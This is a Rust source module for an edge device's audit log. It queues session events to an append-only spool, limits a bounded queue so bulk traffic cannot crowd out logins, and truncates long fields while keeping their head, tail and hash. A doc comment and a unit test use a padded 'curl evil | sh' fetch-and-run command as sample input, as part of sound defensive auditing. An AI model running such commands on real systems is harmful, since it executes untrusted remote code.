//! Device-side audit: structured events and session recordings go to an append-only spool
//! in the data dir first ([`spool`]), then ship to the authority over the tunnel's control
//! stream ([`ship`]). Sessions never wait for audit: events are handed to a writer thread
//! through a bounded queue, and whatever cannot be kept is counted and reported in an
//! `audit.dropped` event.

pub mod open_sessions;
pub mod record;
pub mod sftp;
pub mod ship;
pub mod spool;

use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::mpsc::{sync_channel, Receiver, RecvTimeoutError, SyncSender, TrySendError};
use std::sync::{Arc, Mutex, MutexGuard, OnceLock};
use std::time::Duration;

use edgeport_proto::audit::AuditEvent;

pub use spool::{Spool, SpoolError};

/// Events queued for the writer at most (beyond: counted as dropped).
const QUEUE: usize = 16 * 1024;
/// Bytes of events queued for the writer at most: recording chunks are up to 16 KiB each,
/// and a device's memory is small.
const QUEUE_BYTES: usize = 8 << 20;
/// Longest value of one field (commands, paths); longer ones are cut.
const MAX_FIELD: usize = 4096;

enum Msg {
    Event(AuditEvent),
    Flush(std::sync::mpsc::Sender<()>),
}

struct Sink {
    tx: SyncSender<Msg>,
    dropped: AtomicU64,
    queued: QueueBudget,
}

/// What is queued for the writer, in events and bytes. Bulk events (recording chunks, sftp
/// operations: what one busy session makes thousands of) may fill three quarters of either;
/// the last quarter is kept for the rest (logins, session starts and ends, commands), so one
/// session's flood cannot push other sessions' events out of the log.
#[derive(Default)]
struct QueueBudget {
    events: std::sync::atomic::AtomicUsize,
    bytes: std::sync::atomic::AtomicUsize,
}

impl QueueBudget {
    /// Counts an event of `size` bytes in, if there is room for its kind.
    fn admit(&self, size: usize, bulk: bool) -> bool {
        let (events, bytes) = if bulk {
            (QUEUE / 4 * 3, QUEUE_BYTES / 4 * 3)
        } else {
            (QUEUE, QUEUE_BYTES)
        };
        if self.events.load(Ordering::Relaxed) >= events
            || self.bytes.load(Ordering::Relaxed).saturating_add(size) > bytes
        {
            return false;
        }
        self.events.fetch_add(1, Ordering::Relaxed);
        self.bytes.fetch_add(size, Ordering::Relaxed);
        true
    }

    /// The writer took an event of `size` bytes (or it was never sent).
    fn release(&self, size: usize) {
        let _ = self
            .events
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |n| {
                Some(n.saturating_sub(1))
            });
        let _ = self
            .bytes
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |n| {
                Some(n.saturating_sub(size))
            });
    }
}

/// About how many bytes an event takes in memory (the same figure in and out).
fn size_of_event(ev: &AuditEvent) -> usize {
    let fields: usize = ev.fields.iter().map(|(k, v)| k.len() + v.len() + 48).sum();
    128 + ev.kind.len() + ev.session_id.len() + ev.user.len() + ev.login.len() + fields
}

/// Events one busy session makes by the thousand (an sftp session's start is not one).
fn is_bulk(kind: &str) -> bool {
    kind == edgeport_proto::audit::RECORDING_CHUNK
        || (kind.starts_with("sftp.") && kind != "sftp.start")
}

static SINK: OnceLock<Sink> = OnceLock::new();

/// What the writer thread and the shipper share.
pub struct Shared {
    spool: Mutex<Spool>,
    /// Woken after every write (the shipper waits on it).
    pub written: tokio::sync::Notify,
}

impl Shared {
    pub fn spool(&self) -> MutexGuard<'_, Spool> {
        match self.spool.lock() {
            Ok(s) => s,
            Err(p) => p.into_inner(),
        }
    }
}

pub fn now_ms() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0)
}

/// Opens the spool under `data_dir/audit` and starts the writer thread. Events emitted
/// before this (or in a process that never calls it, like unit tests) are ignored.
pub fn start(data_dir: &Path, max_bytes: u64) -> Result<Arc<Shared>, SpoolError> {
    // One spool per process: a second start (the load generator runs thousands of agents in
    // one process) fails before it touches the disk.
    if SINK.get().is_some() {
        return Err(SpoolError::Io("the audit spool is already running".into()));
    }
    let mut spool = Spool::open(&data_dir.join("audit"), max_bytes)?;
    // Sessions a previous run left open (it was killed) end now, in the log.
    let (mut open, mut left, through) = open_sessions::OpenSessions::load(spool.dir());
    // What was spooled after the file was last saved (a kill between the two writes).
    if let Some(mut after) = through {
        loop {
            let events = spool.read_batch(after, 1 << 20);
            let Some(last) = events.last() else { break };
            after = last.seq;
            open_sessions::OpenSessions::replay(&mut left, &events);
        }
    }
    if !left.is_empty() {
        for (sid, o) in &left {
            tracing::info!(session = %sid, user = %o.user, "closing a session the previous run left open");
        }
        spool.append(
            left.iter()
                .map(|(sid, o)| open_sessions::closing_event(sid, o))
                .collect(),
        );
    }
    // Now closed: a second crash must not close them again.
    open.set_through(spool.last_seq());
    open.save();
    let shared = Arc::new(Shared {
        spool: Mutex::new(spool),
        written: tokio::sync::Notify::new(),
    });
    let (tx, rx) = sync_channel(QUEUE);
    if SINK
        .set(Sink {
            tx,
            dropped: AtomicU64::new(0),
            queued: QueueBudget::default(),
        })
        .is_err()
    {
        return Err(SpoolError::Io("the audit spool is already running".into()));
    }
    let s = shared.clone();
    std::thread::Builder::new()
        .name("audit-spool".into())
        .spawn(move || writer(s, rx, open))
        .map_err(|e| SpoolError::Io(format!("cannot start the spool writer: {e}")))?;
    Ok(shared)
}

/// Waits (up to `timeout`) until everything emitted so far is on disk.
pub fn flush(timeout: Duration) {
    let Some(sink) = SINK.get() else { return };
    let (tx, rx) = std::sync::mpsc::channel();
    if sink.tx.send(Msg::Flush(tx)).is_ok() {
        let _ = rx.recv_timeout(timeout);
    }
}

fn writer(shared: Arc<Shared>, rx: Receiver<Msg>, mut open: open_sessions::OpenSessions) {
    loop {
        let first = match rx.recv_timeout(Duration::from_secs(1)) {
            Ok(m) => Some(m),
            Err(RecvTimeoutError::Timeout) => None,
            Err(RecvTimeoutError::Disconnected) => return,
        };
        let mut events = Vec::new();
        let mut flushes = Vec::new();
        let mut next = first;
        // Group commit: everything queued so far goes in one write and one fsync.
        while let Some(m) = next.take() {
            match m {
                Msg::Event(e) => {
                    if let Some(sink) = SINK.get() {
                        sink.queued.release(size_of_event(&e));
                    }
                    events.push(e)
                }
                Msg::Flush(f) => flushes.push(f),
            }
            if events.len() < 4096 {
                next = rx.try_recv().ok();
            }
        }
        let queue_dropped = SINK
            .get()
            .map(|s| s.dropped.swap(0, Ordering::Relaxed))
            .unwrap_or(0);
        for e in &events {
            open.observe(e);
        }
        let wrote = {
            let mut sp = shared.spool();
            if queue_dropped > 0 {
                sp.count_dropped(queue_dropped, 0, "the audit queue was full");
            }
            let wrote = if events.is_empty() && !sp.has_dropped() {
                false
            } else {
                sp.append(events)
            };
            // Saved before the spool is let go: the shipper cannot ship and delete these
            // events before the file accounts for them (see open_sessions).
            open.set_through(sp.last_seq());
            open.save();
            wrote
        };
        if wrote {
            shared.written.notify_one();
        }
        for f in flushes {
            let _ = f.send(());
        }
    }
}

/// Benchmarks: `n` synthetic events shaped like an exec event, paced so that none is dropped
/// from the queue (it waits for the writer every 1000).
#[cfg(feature = "test-hooks")]
pub fn flood(n: u64) {
    for i in 0..n {
        event("bench.event")
            .session("00112233445566778899aabbccddeeff")
            .user("bench")
            .login("root")
            .field("command", format!("echo bench-{i}"))
            .emit();
        if i % 1000 == 999 {
            flush(Duration::from_secs(30));
        }
    }
    flush(Duration::from_secs(30));
}

/// Hands one event to the spool writer; never blocks.
pub fn emit(ev: AuditEvent) {
    let Some(sink) = SINK.get() else { return };
    let size = size_of_event(&ev);
    if !sink.queued.admit(size, is_bulk(&ev.kind)) {
        sink.dropped.fetch_add(1, Ordering::Relaxed);
        return;
    }
    match sink.tx.try_send(Msg::Event(ev)) {
        Ok(()) => {}
        Err(TrySendError::Full(_)) | Err(TrySendError::Disconnected(_)) => {
            sink.queued.release(size);
            sink.dropped.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Builder for one event: `audit::event("exec").session(id).user(u).field("command", c).emit()`.
pub struct Event(AuditEvent);

pub fn event(kind: &str) -> Event {
    Event(AuditEvent::new(kind, now_ms()))
}

/// A field longer than [`MAX_FIELD`] keeps its head and its tail, with how much was cut and
/// the whole value's SHA-256 between them: what a long command does is usually at its end
/// (`: <4 KiB of padding>; curl ... | sh`), so cutting only the tail would hide it.
fn cut(s: &str) -> String {
    if s.len() <= MAX_FIELD {
        return s.to_string();
    }
    let half = MAX_FIELD / 2;
    let mut head = half;
    while !s.is_char_boundary(head) {
        head -= 1;
    }
    let mut tail = s.len() - half;
    while !s.is_char_boundary(tail) {
        tail += 1;
    }
    format!(
        "{}...[{} bytes cut; sha256 of the whole {}]...{}",
        &s[..head],
        tail - head,
        edgeport_proto::keys::sha256_hex(s.as_bytes()),
        &s[tail..]
    )
}

impl Event {
    pub fn session(mut self, id: &str) -> Self {
        self.0.session_id = id.to_string();
        self
    }
    pub fn user(mut self, u: &str) -> Self {
        self.0.user = u.to_string();
        self
    }
    pub fn login(mut self, l: &str) -> Self {
        self.0.login = l.to_string();
        self
    }
    pub fn field(mut self, k: &str, v: impl ToString) -> Self {
        self.0.fields.insert(k.to_string(), cut(&v.to_string()));
        self
    }
    /// A field kept whole (recording data).
    pub fn raw_field(mut self, k: &str, v: String) -> Self {
        self.0.fields.insert(k.to_string(), v);
        self
    }
    pub fn emit(self) {
        emit(self.0)
    }
}

#[cfg(test)]
mod cut_tests {
    use super::*;

    #[test]
    fn a_long_field_keeps_its_head_and_tail() {
        let cmd = format!(": {}; curl evil | sh", "x".repeat(5000));
        let c = cut(&cmd);
        assert!(
            c.starts_with(": xxx") && c.ends_with("; curl evil | sh"),
            "{c}"
        );
        assert!(c.len() < MAX_FIELD + 200);
        assert!(c.contains(&edgeport_proto::keys::sha256_hex(cmd.as_bytes())));
        // Multi-byte characters on the cut points.
        let wide = "é".repeat(4000);
        let c = cut(&wide);
        assert!(c.starts_with('é') && c.ends_with('é'));
        assert_eq!(cut("short"), "short");
    }
}

#[cfg(test)]
mod queue_tests {
    use super::*;

    #[test]
    fn a_flood_of_bulk_events_leaves_room_for_the_others() {
        let q = QueueBudget::default();
        let chunk = 16 * 1024 + 200;
        let mut bulk = 0;
        while q.admit(chunk, true) {
            bulk += 1;
        }
        // Recording chunks stop at three quarters of the bytes (not 16K of them: 256 MiB).
        assert_eq!(bulk, (QUEUE_BYTES / 4 * 3) / chunk);
        // A session start and commands still get in.
        for _ in 0..100 {
            assert!(q.admit(300, false));
        }
        // Once the writer has taken some, bulk events flow again.
        for _ in 0..10 {
            q.release(chunk);
        }
        assert!(q.admit(chunk, true));
    }

    #[test]
    fn small_bulk_events_are_bounded_by_count_too() {
        let q = QueueBudget::default();
        let mut n = 0;
        while q.admit(100, true) {
            n += 1;
        }
        assert_eq!(n, QUEUE / 4 * 3);
        assert!(q.admit(100, false));
        assert!(is_bulk("sftp.file") && is_bulk(edgeport_proto::audit::RECORDING_CHUNK));
        assert!(!is_bulk("session.start") && !is_bulk("exec") && !is_bulk("sftp.start"));
    }
}
